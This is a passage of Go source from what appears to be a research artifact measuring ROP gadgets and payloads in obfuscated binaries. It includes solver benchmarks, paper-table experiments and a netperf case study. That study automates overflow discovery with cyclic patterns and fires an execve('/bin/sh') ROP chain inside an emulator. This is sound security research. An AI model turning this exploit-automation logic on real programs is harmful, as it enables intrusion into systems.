		if r.Config == "no-deref" && r.Payloads >= all {
			t.Errorf("no-deref %d >= all %d", r.Payloads, all)
		}
	}
	if RenderAblationClasses(cls) == "" {
		t.Error("empty render")
	}
}

func TestIsNewGadgetClassifier(t *testing.T) {
	opts := Options{Seed: 42}.withDefaults()
	p := benchprog.Benchmarks()[0]
	origText, err := origTextOf(opts, p)
	if err != nil {
		t.Fatal(err)
	}
	// Every gadget extracted from the original binary must be "old".
	bin, err := opts.build(p, Configs()[0])
	if err != nil {
		t.Fatal(err)
	}
	pool := poolOf(bin)
	news := 0
	for _, g := range pool.Gadgets {
		if IsNewGadget(bin, g, origText) {
			news++
		}
	}
	if news != 0 {
		t.Errorf("%d gadgets of the original classified as new", news)
	}
}

func TestFig5IncludesSelfMod(t *testing.T) {
	opts := quickOpts()
	opts.Programs = benchprog.Benchmarks()[:1]
	rows, err := Fig5(opts)
	if err != nil {
		t.Fatal(err)
	}
	var sm, sub Fig5Row
	for _, r := range rows {
		if r.Pass == "selfmod" {
			sm = r
		}
		if r.Pass == "sub" {
			sub = r
		}
	}
	if sm.Pass == "" {
		t.Fatal("selfmod row missing")
	}
	// Self-modification hides the static surface: the encoded image shows
	// only noise gadgets (random-byte decode artifacts), and none of them
	// compose into a payload.
	_ = sub
	if sm.Payloads != 0 {
		t.Errorf("payloads on encoded image = %d", sm.Payloads)
	}
	if RenderFig5(rows) == "" {
		t.Error("empty render")
	}
}
