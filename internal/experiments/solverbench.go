package experiments

import (
	"fmt"
	"strings"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/pipeline"
	"github.com/nofreelunch/gadget-planner/internal/solver"
	"github.com/nofreelunch/gadget-planner/internal/subsume"
)

// SolverTierCounts is the per-tier resolution split of the solver's verdict
// queries: constant folding, concrete screening (T1), witness replay (T2),
// verdict cache (T3), and the bit-blaster (T4).
type SolverTierCounts struct {
	Queries        int64 `json:"queries"`
	ConstResolved  int64 `json:"const_resolved"`
	EvalRefuted    int64 `json:"eval_refuted"`
	WitnessRefuted int64 `json:"witness_refuted"`
	CacheHits      int64 `json:"cache_hits"`
	Blasted        int64 `json:"blasted"`
}

func (c *SolverTierCounts) addStats(s subsume.Stats) {
	c.Queries += s.SolverQueries
	c.EvalRefuted += s.EvalRefuted
	c.WitnessRefuted += s.WitnessRefuted
	c.CacheHits += s.CacheHits
	c.Blasted += s.Blasted
	c.ConstResolved = c.Queries - c.EvalRefuted - c.WitnessRefuted - c.CacheHits - c.Blasted
}

func (c *SolverTierCounts) addSolver(s *solver.Solver) {
	c.Queries += s.Queries
	c.EvalRefuted += s.EvalRefuted
	c.WitnessRefuted += s.WitnessRefuted
	c.CacheHits += s.CacheHits
	c.Blasted += s.Blasted
	c.ConstResolved = c.Queries - c.EvalRefuted - c.WitnessRefuted - c.CacheHits - c.Blasted
}

// TriageShare is the fraction of queries resolved without bit-blasting.
func (c SolverTierCounts) TriageShare() float64 {
	if c.Queries == 0 {
		return 0
	}
	return 1 - float64(c.Blasted)/float64(c.Queries)
}

// SolverBench is the machine-readable solver-triage benchmark
// (BENCH_SOLVER.json). The corpus section aggregates subsumption across the
// obfuscated benchmark programs and cross-checks that the minimized pools
// are byte-identical with triage on or off at several worker counts; the
// micro section replays a deterministic stream of subsumption-shaped
// verdict queries against the solver directly, where the time per query is
// not diluted by extraction and bucketing.
type SolverBench struct {
	// Corpus: subsumption over Programs × {LLVM-Obf, Tigress}.
	Programs               int              `json:"programs"`
	Corpus                 SolverTierCounts `json:"corpus"`
	CorpusTriageShare      float64          `json:"corpus_triage_share"`
	SubsumeSecondsBaseline float64          `json:"subsume_seconds_baseline"`
	SubsumeSecondsTriage   float64          `json:"subsume_seconds_triage"`
	PoolsIdentical         bool             `json:"pools_identical"`
	PoolSize               int              `json:"pool_size"`

	// Micro: direct verdict-query stream, triage on vs off.
	Micro              SolverTierCounts `json:"micro"`
	MicroBaseline      SolverTierCounts `json:"micro_baseline"`
	NsPerQueryTriage   float64          `json:"ns_per_query_triage"`
	NsPerQueryBaseline float64          `json:"ns_per_query_baseline"`
	MicroSpeedup       float64          `json:"micro_speedup"`
}

// triageWorkerCounts are the parallelism settings cross-checked for pool
// identity against the triage-disabled serial reference.
var triageWorkerCounts = []int{1, 2, 8}

// BenchSolver measures the tiered verdict-query triage. cmd/experiments
// writes the result as BENCH_SOLVER.json.
func BenchSolver(opts Options) (*SolverBench, error) {
	opts = opts.withDefaults()
	res := &SolverBench{PoolsIdentical: true}

	for _, p := range opts.Programs {
		for _, cfg := range Configs()[1:] { // LLVM-Obf, Tigress
			bin, err := opts.build(p, cfg)
			if err != nil {
				return nil, err
			}
			pool := pipeline.Extract(opts.Store, bin, gadget.Options{})

			start := time.Now()
			ref, _ := subsume.Minimize(pool, subsume.Options{Parallelism: 1, DisableTriage: true})
			res.SubsumeSecondsBaseline += time.Since(start).Seconds()
			refSig := PoolSignature(ref)

			for _, par := range triageWorkerCounts {
				start = time.Now()
				min, stats := subsume.Minimize(pool, subsume.Options{Parallelism: par})
				if par == 1 {
					res.SubsumeSecondsTriage += time.Since(start).Seconds()
					res.Corpus.addStats(stats)
					res.PoolSize += min.Size()
				}
				if PoolSignature(min) != refSig {
					res.PoolsIdentical = false
				}
			}
		}
		res.Programs++
	}
	res.CorpusTriageShare = res.Corpus.TriageShare()

	res.Micro, res.NsPerQueryTriage = runMicroStream(solver.Options{})
	res.MicroBaseline, res.NsPerQueryBaseline = runMicroStream(solver.Options{DisableTriage: true})
	if res.NsPerQueryTriage > 0 {
		res.MicroSpeedup = res.NsPerQueryBaseline / res.NsPerQueryTriage
	}
	return res, nil
}

// microStreamQueries is the length of the synthetic verdict-query stream.
// The stream is the *refutable* query class — the overwhelming majority in
// production, and the class triage exists for. (Unsatisfiable queries, the
// true equivalences, cost the same in both modes: no tier can skip an UNSAT
// proof, so including them would only dilute the per-query comparison with
// a constant both sides share.) Nine in ten queries are MBA near-miss
// pairs, which concrete screening refutes; one in ten is an implication
// refutable only at a magic value no battery probe hits, so the first one
// bit-blasts and the rest are refuted by replaying its model.
const microStreamQueries = 200

// runMicroStream replays the deterministic query stream against one fresh
// solver and returns the tier split and mean wall time per query.
func runMicroStream(sopts solver.Options) (SolverTierCounts, float64) {
	eb := expr.NewBuilder()
	x := eb.Var("rax0", 64)
	y := eb.Var("rbx0", 64)
	// x + y == (x ^ y) + 2*(x & y) is the canonical MBA addition identity;
	// offsetting one side by a nonzero constant makes a near-miss that only
	// a concrete counterexample refutes.
	lhs := eb.Add(x, y)
	rhs := eb.Add(eb.Xor(x, y), eb.Shl(eb.And(x, y), eb.Const(1, 64)))
	magic := eb.Eq(x, eb.Const(0xDECAF123, 64))

	s := solver.New(sopts)
	var counts SolverTierCounts
	start := time.Now()
	for i := 0; i < microStreamQueries; i++ {
		c := eb.Const(uint64(i)+1, 64)
		if i%10 == 0 {
			// Refuted only by x = 0xDECAF123: the first instance must
			// bit-blast; its model then screens the remaining instances.
			if s.Implies(eb, magic, eb.Eq(x, c)) {
				panic("implication from magic value proved")
			}
		} else {
			if s.EquivalentBV(eb, eb.Add(lhs, c), rhs) {
				panic("non-equivalent pair proved equal")
			}
		}
	}
	elapsed := time.Since(start)
	counts.addSolver(s)
	return counts, float64(elapsed.Nanoseconds()) / microStreamQueries
}

// RenderSolverBench prints the benchmark as a table.
func RenderSolverBench(b *SolverBench) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "solver bench: %d programs x 2 obfuscators (pools identical at parallelism %v: %v)\n",
		b.Programs, triageWorkerCounts, b.PoolsIdentical)
	fmt.Fprintf(&sb, "%-22s %10s %10s %10s %10s %10s %10s\n",
		"", "queries", "const", "eval", "witness", "cached", "blasted")
	row := func(name string, c SolverTierCounts) {
		fmt.Fprintf(&sb, "%-22s %10d %10d %10d %10d %10d %10d\n",
			name, c.Queries, c.ConstResolved, c.EvalRefuted, c.WitnessRefuted, c.CacheHits, c.Blasted)
	}
	row("corpus (triage)", b.Corpus)
	fmt.Fprintf(&sb, "%-22s %.1f%% resolved without blasting; subsume %.3fs -> %.3fs\n",
		"", 100*b.CorpusTriageShare, b.SubsumeSecondsBaseline, b.SubsumeSecondsTriage)
	row("micro (triage)", b.Micro)
	row("micro (baseline)", b.MicroBaseline)
	fmt.Fprintf(&sb, "%-22s %.0f ns/query -> %.0f ns/query (%.1fx)\n",
		"", b.NsPerQueryBaseline, b.NsPerQueryTriage, b.MicroSpeedup)
	return sb.String()
}
