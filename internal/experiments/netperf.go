package experiments

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/core"
	"github.com/nofreelunch/gadget-planner/internal/emu"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/pipeline"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// NetperfResult is the Section VI-C case study outcome.
type NetperfResult struct {
	// Payloads is the number of verified execve payloads Gadget-Planner
	// found on the obfuscated binary (the paper reports 16).
	Payloads int
	// Offset is the discovered distance from the vulnerable buffer to the
	// saved return address.
	Offset int
	// StackBase is the discovered runtime address of the return-address slot.
	StackBase uint64
	// ExploitWorks reports whether the end-to-end stdin exploit spawned
	// /bin/sh in the emulator.
	ExploitWorks bool
	// ChainExample renders one used chain (Fig. 8 analogue).
	ChainExample string
	// ExploitStdin is the raw request that triggers the shell.
	ExploitStdin []byte
}

// The cyclic probe pattern is alphanumeric (like classic exploit-dev
// patterns): the victim's loop bound lives between the buffer and the
// return address and is trampled during the copy, and NUL bytes in a naive
// pattern would shrink it and stop the overflow early. Each 4-byte unit
// encodes its own offset.
const cyclicLen = 512

func cyclicPattern() []byte {
	out := make([]byte, cyclicLen)
	for k := 0; k*4 < cyclicLen; k++ {
		out[k*4] = byte('A' + k%26)
		out[k*4+1] = byte('a' + (k/26)%26)
		out[k*4+2] = byte('0' + k%10)
		out[k*4+3] = '$'
	}
	return out
}

// cyclicFind decodes a pattern qword back to its byte offset.
func cyclicFind(v uint64) (int, bool) {
	b := make([]byte, 8)
	binary.LittleEndian.PutUint64(b, v)
	if b[3] != '$' || b[7] != '$' {
		return 0, false
	}
	if b[0] < 'A' || b[0] > 'Z' || b[1] < 'a' || b[1] > 'z' {
		return 0, false
	}
	k := int(b[0]-'A') + 26*int(b[1]-'a')
	off := 4 * k
	if off < 0 || off >= cyclicLen {
		return 0, false
	}
	return off, true
}

// Netperf runs the full case study: compile the obfuscated vulnerable tool,
// discover the overflow geometry by iterative crash analysis, plan payloads
// for the discovered stack address, and fire the exploit through stdin.
//
// Discovery mirrors real exploit development against this bug class:
//
//  1. A cyclic probe crashes when the copy loop tramples its own source
//     pointer; the faulting value reveals that slot's offset. It is
//     "repaired" with the known address of the request buffer (a global;
//     the threat model gives the attacker addresses).
//  2. The loop bound is also trampled; probing each earlier slot with a
//     small length finds the slot that cleanly stops the copy — and the
//     same run's controlled crash reveals the return-address offset and
//     its runtime stack address.
//  3. Gadget-Planner payloads are concretized for that exact address and
//     fired through the program's real input path.
func Netperf(opts Options) (*NetperfResult, error) {
	opts = opts.withDefaults()
	prog := benchprog.Netperf()
	bin, err := opts.build(prog, Configs()[1]) // LLVM-Obf, shared with Table7
	if err != nil {
		return nil, err
	}
	reqbuf, ok := bin.Symbol("reqbuf")
	if !ok {
		return nil, fmt.Errorf("experiments: reqbuf symbol missing")
	}
	srcPtr := reqbuf + 3 // option payload's address inside the request

	// Step 1: locate the trampled source-pointer slot. The copy corrupts it
	// byte-wise, so the bare probe faults quickly at a garbage address;
	// repairing the right slot with the request buffer's (known) address
	// lets the copy run away up the stack until it hits the stack guard —
	// the signature of a successful repair.
	ptrSlot := -1
	for c := 0; c < 128 && ptrSlot < 0; c += 8 {
		kind, _, _, faultAddr := crashProbe(bin, map[int]uint64{c: srcPtr})
		if kind == crashOther && faultAddr >= 0x7FC0_0000 {
			ptrSlot = c
		}
	}
	if ptrSlot < 0 {
		return nil, fmt.Errorf("experiments: source-pointer slot not found")
	}

	// Step 2: locate the loop-bound slot and the return address: a small
	// repaired length stops the copy cleanly, and the victim then returns
	// into the cyclic pattern, revealing the return-address offset and its
	// runtime stack address.
	var offset, nSlot int
	var retSlotAddr uint64
	found := false
	for c := 0; c < ptrSlot; c += 8 {
		kind, at, rsp, _ := crashProbe(bin, map[int]uint64{ptrSlot: srcPtr, c: 96})
		if kind == crashExec {
			nSlot, offset, retSlotAddr = c, at, rsp-8
			found = true
			break
		}
	}
	if !found {
		return nil, fmt.Errorf("experiments: loop-bound slot not found")
	}
	res := &NetperfResult{Offset: offset, StackBase: retSlotAddr}

	// Step 3: plan payloads concretized for the discovered address.
	a := core.Analyze(bin, core.Config{PayloadBase: retSlotAddr, Planner: opts.Planner, Store: opts.Store})
	atk := a.FindPayloads(planner.ExecveGoal())
	res.Payloads = len(atk.Payloads)
	if res.Payloads == 0 {
		return res, nil
	}

	// Step 4: fire the first comma-free payload through the real input
	// path (break_args writes a NUL at the first ',' it scans).
	for i, pl := range atk.Payloads {
		if bytes.IndexByte(pl.Bytes, ',') >= 0 {
			continue
		}
		raw := make([]byte, offset+len(pl.Bytes))
		for j := range raw[:offset] {
			raw[j] = 'A'
		}
		binary.LittleEndian.PutUint64(raw[ptrSlot:], srcPtr)
		binary.LittleEndian.PutUint64(raw[nSlot:], uint64(len(raw)))
		copy(raw[offset:], pl.Bytes)
		stdin := benchprog.NetperfRequest(raw)
		if exploitFires(bin, stdin) {
			res.ExploitWorks = true
			res.ExploitStdin = stdin
			res.ChainExample = renderChain(atk.Plans[i])
			break
		}
	}
	return res, nil
}

// crash kinds from one probe run.
type crashKind int

const (
	crashNone  crashKind = iota
	crashExec            // control reached a pattern word: at = offset, rsp meaningful
	crashOther           // some other fault; the faulting address is reported
)

// crashProbe runs the victim on the cyclic pattern (with repairs applied)
// and classifies the crash.
func crashProbe(bin *sbf.Binary, repairs map[int]uint64) (crashKind, int, uint64, uint64) {
	defer pipeline.TrackWall("emu-replay")()
	pattern := cyclicPattern()
	for off, v := range repairs {
		binary.LittleEndian.PutUint64(pattern[off:], v)
	}

	be, ok := isa.ByName(bin.ISA)
	if !ok {
		return crashOther, 0, 0, 0
	}
	m := emu.NewMachineISA(be)
	os := emu.NewOS()
	os.Stdin.Reset(benchprog.NetperfRequest(pattern))
	m.OS = os
	m.Mem.LoadBinary(bin)
	m.SetupStack(0x7FC0_0000, 0x400000)
	m.RIP = bin.Entry

	for steps := 0; steps < 50_000_000; steps++ {
		exit, err := m.Step()
		if exit {
			return crashNone, 0, 0, 0
		}
		if err == nil {
			continue
		}
		if off, ok := cyclicFind(m.RIP); ok {
			return crashExec, off, m.Regs[m.SP()], 0
		}
		var mf *emu.MemFault
		if errors.As(err, &mf) {
			return crashOther, 0, 0, mf.Addr
		}
		return crashOther, 0, 0, 0
	}
	return crashNone, 0, 0, 0
}

// exploitFires runs the victim with the crafted stdin and reports whether
// execve("/bin/sh") happened.
func exploitFires(bin *sbf.Binary, stdin []byte) bool {
	defer pipeline.TrackWall("emu-replay")()
	be, ok := isa.ByName(bin.ISA)
	if !ok {
		return false
	}
	m := emu.NewMachineISA(be)
	os := emu.NewOS()
	os.Stdin.Reset(stdin)
	m.OS = os
	m.Mem.LoadBinary(bin)
	m.SetupStack(0x7FC0_0000, 0x400000)
	m.RIP = bin.Entry
	_ = m.Run(10_000_000)
	ev := os.EventFor(emu.SysExecve)
	return ev != nil && ev.Path == "/bin/sh"
}

func renderChain(p *planner.Plan) string {
	var sb bytes.Buffer
	for i, g := range p.Chain() {
		fmt.Fprintf(&sb, "Gadget %d @ %#x:\n", i+1, g.Location)
		for _, st := range g.Steps {
			fmt.Fprintf(&sb, "    %s\n", st.Inst)
		}
	}
	return sb.String()
}

// RenderNetperf prints the case study summary.
func RenderNetperf(r *NetperfResult) string {
	status := "EXPLOIT FAILED"
	if r.ExploitWorks {
		status = "shell spawned: execve(\"/bin/sh\") observed in the emulator"
	}
	return fmt.Sprintf(
		"netperf-sim (LLVM-Obf): %d verified execve payloads\n"+
			"overflow offset %d bytes; return slot at %#x\n%s\n\nexample chain:\n%s",
		r.Payloads, r.Offset, r.StackBase, status, r.ChainExample)
}
