package experiments

import (
	"fmt"
	"sort"
	"strings"

	"github.com/nofreelunch/gadget-planner/internal/baseline"
	"github.com/nofreelunch/gadget-planner/internal/baseline/angrop"
	"github.com/nofreelunch/gadget-planner/internal/baseline/ropgadget"
	"github.com/nofreelunch/gadget-planner/internal/baseline/sgc"
	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/core"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/pipeline"
	"github.com/nofreelunch/gadget-planner/internal/planner"
)

// Fig1Row is one program's gadget counts across build configurations
// (paper Fig. 1).
type Fig1Row struct {
	Program  string
	Original int
	LLVMObf  int
	Tigress  int
}

// Fig1 counts classically-scanned gadgets per program and configuration.
// Programs are independent cells, so they run on opts.Parallelism workers.
func Fig1(opts Options) ([]Fig1Row, error) {
	opts = opts.withDefaults()
	rows := make([]Fig1Row, len(opts.Programs))
	err := runCells(opts.Parallelism, len(opts.Programs), func(i int) error {
		p := opts.Programs[i]
		row := Fig1Row{Program: p.Name}
		for _, cfg := range Configs() {
			bin, err := opts.build(p, cfg)
			if err != nil {
				return err
			}
			n := gadget.TotalCount(pipeline.Count(opts.Store, bin, 10))
			switch cfg.Name {
			case "Original":
				row.Original = n
			case "LLVM-Obf":
				row.LLVMObf = n
			case "Tigress":
				row.Tigress = n
			}
		}
		rows[i] = row
		return nil
	})
	if err != nil {
		return nil, err
	}
	return rows, nil
}

// RenderFig1 prints the figure as a table.
func RenderFig1(rows []Fig1Row) string {
	defer pipeline.TrackWall("render")()
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-14s %10s %10s %10s %8s %8s\n",
		"Program", "Original", "LLVM-Obf", "Tigress", "LLVM-x", "Tig-x")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-14s %10d %10d %10d %7.2fx %7.2fx\n",
			r.Program, r.Original, r.LLVMObf, r.Tigress,
			ratio(r.LLVMObf, r.Original), ratio(r.Tigress, r.Original))
	}
	return sb.String()
}

func ratio(a, b int) float64 {
	if b == 0 {
		return 0
	}
	return float64(a) / float64(b)
}

// Table1Row is one gadget class's average counts (paper Table I).
type Table1Row struct {
	Type         gadget.JmpType
	Original     float64
	Obfuscated   float64 // mean of LLVM-Obf and Tigress builds
	IncreaseRate float64 // percent
}

// Table1 computes per-class average gadget counts across the corpus.
// Each program is one cell; per-program partial sums are reduced in program
// order, so the averages are identical at any worker count.
func Table1(opts Options) ([]Table1Row, error) {
	opts = opts.withDefaults()
	partials := make([]map[gadget.JmpType][3]float64, len(opts.Programs))
	err := runCells(opts.Parallelism, len(opts.Programs), func(i int) error {
		part := map[gadget.JmpType][3]float64{}
		for ci, cfg := range Configs() {
			bin, err := opts.build(opts.Programs[i], cfg)
			if err != nil {
				return err
			}
			for t, n := range pipeline.Count(opts.Store, bin, 10) {
				s := part[t]
				s[ci] += float64(n)
				part[t] = s
			}
		}
		partials[i] = part
		return nil
	})
	if err != nil {
		return nil, err
	}
	sums := map[gadget.JmpType][3]float64{}
	for _, part := range partials {
		for t, ps := range part {
			s := sums[t]
			for ci := range ps {
				s[ci] += ps[ci]
			}
			sums[t] = s
		}
	}
	nProg := float64(len(opts.Programs))
	var rows []Table1Row
	for _, t := range []gadget.JmpType{
		gadget.TypeReturn, gadget.TypeUDJ, gadget.TypeUIJ,
		gadget.TypeCDJ, gadget.TypeCIJ, gadget.TypeSyscall,
	} {
		s := sums[t]
		orig := s[0] / nProg
		obf := (s[1] + s[2]) / (2 * nProg)
		ir := 0.0
		if orig > 0 {
			ir = 100 * (obf - orig) / orig
		}
		rows = append(rows, Table1Row{Type: t, Original: orig, Obfuscated: obf, IncreaseRate: ir})
	}
	return rows, nil
}

// RenderTable1 prints Table I.
func RenderTable1(rows []Table1Row) string {
	defer pipeline.TrackWall("render")()
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-10s %12s %12s %8s\n", "Type", "Original", "Obfuscated", "IR")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-10s %12.1f %12.1f %7.1f%%\n",
			r.Type, r.Original, r.Obfuscated, r.IncreaseRate)
	}
	return sb.String()
}

// Table4Row is one (configuration, tool) aggregate over the corpus
// (paper Table IV).
type Table4Row struct {
	Obf       string
	Tool      string
	PoolTotal int // gadgets collected
	PoolUsed  int // gadgets appearing in chains
	Execve    int
	Mprotect  int
	Mmap      int
	Total     int
	NewTotal  int // payloads relying on obfuscation-introduced gadgets
}

// t4Cell is one (program, configuration) contribution to Table IV: row
// deltas for every tool plus the Gadget-Planner attacks.
type t4Cell struct {
	deltas  []Table4Row // one per tool, Obf/Tool set, counters are deltas
	attacks map[string]*core.Attack
}

// Table4 runs all four tools over the corpus per configuration. The
// (program, configuration) cells are independent, so they run on
// opts.Parallelism workers; cell results are reduced in program-major order,
// which reproduces the sequential aggregation exactly.
func Table4(opts Options) ([]Table4Row, map[string][]*core.Attack, error) {
	opts = opts.withDefaults()

	configs := Configs()
	nCells := len(opts.Programs) * len(configs)
	cells := make([]t4Cell, nCells)
	pipePar := opts.pipelineParallelism(nCells)
	err := runCells(opts.Parallelism, nCells, func(i int) error {
		p := opts.Programs[i/len(configs)]
		cfg := configs[i%len(configs)]
		origText, err := origTextOf(opts, p)
		if err != nil {
			return err
		}
		bin, err := opts.build(p, cfg)
		if err != nil {
			return err
		}
		// Tools are built per cell: a Tool value may keep run state, so
		// sharing instances across concurrent cells would race. SGC gets
		// the same search budget as Gadget-Planner; its handicap is its
		// gadget selection, not its allowance (paper Section VI).
		tools := []baseline.Tool{&ropgadget.Tool{}, &angrop.Tool{}, &sgc.Tool{
			MaxPlans: opts.Planner.MaxPlans,
			MaxNodes: opts.Planner.MaxNodes,
			Timeout:  opts.Planner.Timeout,
		}}
		cell := t4Cell{}
		for _, tool := range tools {
			res := tool.Run(bin)
			row := Table4Row{Obf: cfg.Name, Tool: res.ToolName}
			row.PoolTotal = res.GadgetsTotal
			row.PoolUsed = res.GadgetsUsed
			row.Execve = res.PayloadsFor("execve")
			row.Mprotect = res.PayloadsFor("mprotect")
			row.Mmap = res.PayloadsFor("mmap")
			row.Total = res.TotalPayloads()
			if cfg.Name != "Original" {
				for _, c := range res.Chains {
					if !c.Verified {
						continue
					}
					for _, g := range c.Gadgets {
						if IsNewGadget(bin, g, origText) {
							row.NewTotal++
							break
						}
					}
				}
			}
			cell.deltas = append(cell.deltas, row)
		}
		// Gadget-Planner.
		a := core.Analyze(bin, core.Config{Planner: opts.Planner, Parallelism: pipePar, Store: opts.Store})
		attacks := a.FindAll()
		row := Table4Row{Obf: cfg.Name, Tool: "Gadget-Planner"}
		row.PoolTotal = a.Pool.Size()
		used := map[uint64]bool{}
		for _, atk := range attacks {
			for _, pl := range atk.Payloads {
				for _, g := range pl.Chain {
					used[g.Location] = true
				}
			}
		}
		row.PoolUsed = len(used)
		row.Execve = len(attacks["execve"].Payloads)
		row.Mprotect = len(attacks["mprotect"].Payloads)
		row.Mmap = len(attacks["mmap"].Payloads)
		row.Total = core.TotalPayloads(attacks)
		if cfg.Name != "Original" {
			row.NewTotal = NewPayloads(bin, attacks, origText)
		}
		cell.deltas = append(cell.deltas, row)
		cell.attacks = attacks
		cells[i] = cell
		return nil
	})
	if err != nil {
		return nil, nil, err
	}

	rowIdx := map[string]*Table4Row{}
	var order []string
	gpPlans := map[string][]*core.Attack{}
	for _, cell := range cells {
		for _, d := range cell.deltas {
			k := d.Obf + "|" + d.Tool
			row, ok := rowIdx[k]
			if !ok {
				row = &Table4Row{Obf: d.Obf, Tool: d.Tool}
				rowIdx[k] = row
				order = append(order, k)
			}
			row.PoolTotal += d.PoolTotal
			row.PoolUsed += d.PoolUsed
			row.Execve += d.Execve
			row.Mprotect += d.Mprotect
			row.Mmap += d.Mmap
			row.Total += d.Total
			row.NewTotal += d.NewTotal
		}
		gpPlans[cell.deltas[len(cell.deltas)-1].Obf] = append(
			gpPlans[cell.deltas[len(cell.deltas)-1].Obf],
			cell.attacks["execve"], cell.attacks["mprotect"], cell.attacks["mmap"])
	}

	var rows []Table4Row
	for _, k := range order {
		rows = append(rows, *rowIdx[k])
	}
	sort.SliceStable(rows, func(i, j int) bool {
		oi := configOrder(rows[i].Obf)
		oj := configOrder(rows[j].Obf)
		if oi != oj {
			return oi < oj
		}
		return toolOrder(rows[i].Tool) < toolOrder(rows[j].Tool)
	})
	return rows, gpPlans, nil
}

func configOrder(name string) int {
	switch name {
	case "Original":
		return 0
	case "LLVM-Obf":
		return 1
	default:
		return 2
	}
}

func toolOrder(name string) int {
	switch name {
	case "ROPGadget":
		return 0
	case "Angrop":
		return 1
	case "SGC":
		return 2
	default:
		return 3
	}
}

// RenderTable4 prints Table IV.
func RenderTable4(rows []Table4Row) string {
	defer pipeline.TrackWall("render")()
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-10s %-15s %10s %6s %8s %9s %6s %8s\n",
		"Obf", "Tool", "Pool", "Used", "execve", "mprotect", "mmap", "Total")
	for _, r := range rows {
		total := fmt.Sprintf("%d", r.Total)
		if r.Obf != "Original" {
			total = fmt.Sprintf("%d (+%d)", r.Total, r.NewTotal)
		}
		fmt.Fprintf(&sb, "%-10s %-15s %10d %6d %8d %9d %6d %8s\n",
			r.Obf, r.Tool, r.PoolTotal, r.PoolUsed, r.Execve, r.Mprotect, r.Mmap, total)
	}
	return sb.String()
}

// Table5Row is one tool's chain-property summary (paper Table V).
type Table5Row struct {
	Tool  string
	Stats core.ChainStats
}

// Table5 computes chain diversity/complexity for the Gadget-Planner chains
// Table4 found. The baseline rows follow from their constructions: ROPGadget
// and Angrop build 100%-return chains of 2-instruction gadgets; SGC adds
// indirect jumps but never conditional or merged direct-jump gadgets.
func Table5(gpAttacks map[string][]*core.Attack) []Table5Row {
	var plans []*planner.Plan
	for _, list := range gpAttacks {
		for _, atk := range list {
			plans = append(plans, atk.Plans...)
		}
	}
	return []Table5Row{{Tool: "Gadget-Planner", Stats: core.Summarize(plans)}}
}

// RenderTable5 prints Table V.
func RenderTable5(rows []Table5Row) string {
	defer pipeline.TrackWall("render")()
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-15s %10s %10s %6s %6s %6s %6s\n",
		"Tool", "GadgetLen", "ChainLen", "Ret", "IJ", "DJ", "CJ")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-15s %10.1f %10.1f %5.0f%% %5.0f%% %5.0f%% %5.0f%%\n",
			r.Tool, r.Stats.AvgGadgetLen, r.Stats.AvgChainLen,
			r.Stats.PctRet, r.Stats.PctIndirect, r.Stats.PctDirect, r.Stats.PctCond)
	}
	return sb.String()
}

// Fig5Row is one obfuscation pass's attack-surface contribution (paper
// Fig. 5): payload counts when only that pass is applied.
type Fig5Row struct {
	Pass        string
	Gadgets     int // classic gadget count
	Payloads    int
	NewPayloads int
}

// Fig5 measures each individual obfuscation pass, plus the self-
// modification post-link transform (which — uniquely — *hides* the static
// surface while leaving the decoded runtime image fully exploitable; see
// obfuscate.SelfModifyBinary).
func Fig5(opts Options) ([]Fig5Row, error) {
	opts = opts.withDefaults()
	passes := obfuscate.AllPassNames()
	if len(opts.Programs) == 0 {
		rows := make([]Fig5Row, 0, len(passes)+1)
		for _, name := range passes {
			rows = append(rows, Fig5Row{Pass: name})
		}
		return append(rows, Fig5Row{Pass: "selfmod"}), nil
	}

	// One cell per (pass, program), plus per-program self-modification
	// cells; partial rows are reduced in pass-major order.
	nCells := (len(passes) + 1) * len(opts.Programs)
	parts := make([]Fig5Row, nCells)
	pipePar := opts.pipelineParallelism(nCells)
	err := runCells(opts.Parallelism, nCells, func(i int) error {
		pi, p := i/len(opts.Programs), opts.Programs[i%len(opts.Programs)]
		if pi == len(passes) {
			// Self-modification: static scan of the encoded image.
			plain, err := opts.build(p, Configs()[0])
			if err != nil {
				return err
			}
			sm, err := pipeline.SelfModify(opts.Store, plain, byte(opts.Seed)|1)
			if err != nil {
				return err
			}
			part := Fig5Row{Pass: "selfmod"}
			part.Gadgets = gadget.TotalCount(pipeline.Count(opts.Store, sm, 10))
			a := core.Analyze(sm, core.Config{Planner: opts.Planner, Parallelism: pipePar, Store: opts.Store})
			part.Payloads = core.TotalPayloads(a.FindAll())
			parts[i] = part
			return nil
		}
		passName := passes[pi]
		cfg := ObfConfig{Name: passName, Passes: func() []obfuscate.Pass {
			ps, err := obfuscate.ByName(passName)
			if err != nil {
				return nil
			}
			return []obfuscate.Pass{ps}
		}}
		origText, err := origTextOf(opts, p)
		if err != nil {
			return err
		}
		bin, err := opts.build(p, cfg)
		if err != nil {
			return err
		}
		part := Fig5Row{Pass: passName}
		part.Gadgets = gadget.TotalCount(pipeline.Count(opts.Store, bin, 10))
		a := core.Analyze(bin, core.Config{Planner: opts.Planner, Parallelism: pipePar, Store: opts.Store})
		attacks := a.FindAll()
		part.Payloads = core.TotalPayloads(attacks)
		part.NewPayloads = NewPayloads(bin, attacks, origText)
		parts[i] = part
		return nil
	})
	if err != nil {
		return nil, err
	}

	rows := make([]Fig5Row, 0, len(passes)+1)
	for i, part := range parts {
		if i%len(opts.Programs) == 0 {
			rows = append(rows, Fig5Row{Pass: part.Pass})
		}
		row := &rows[len(rows)-1]
		row.Gadgets += part.Gadgets
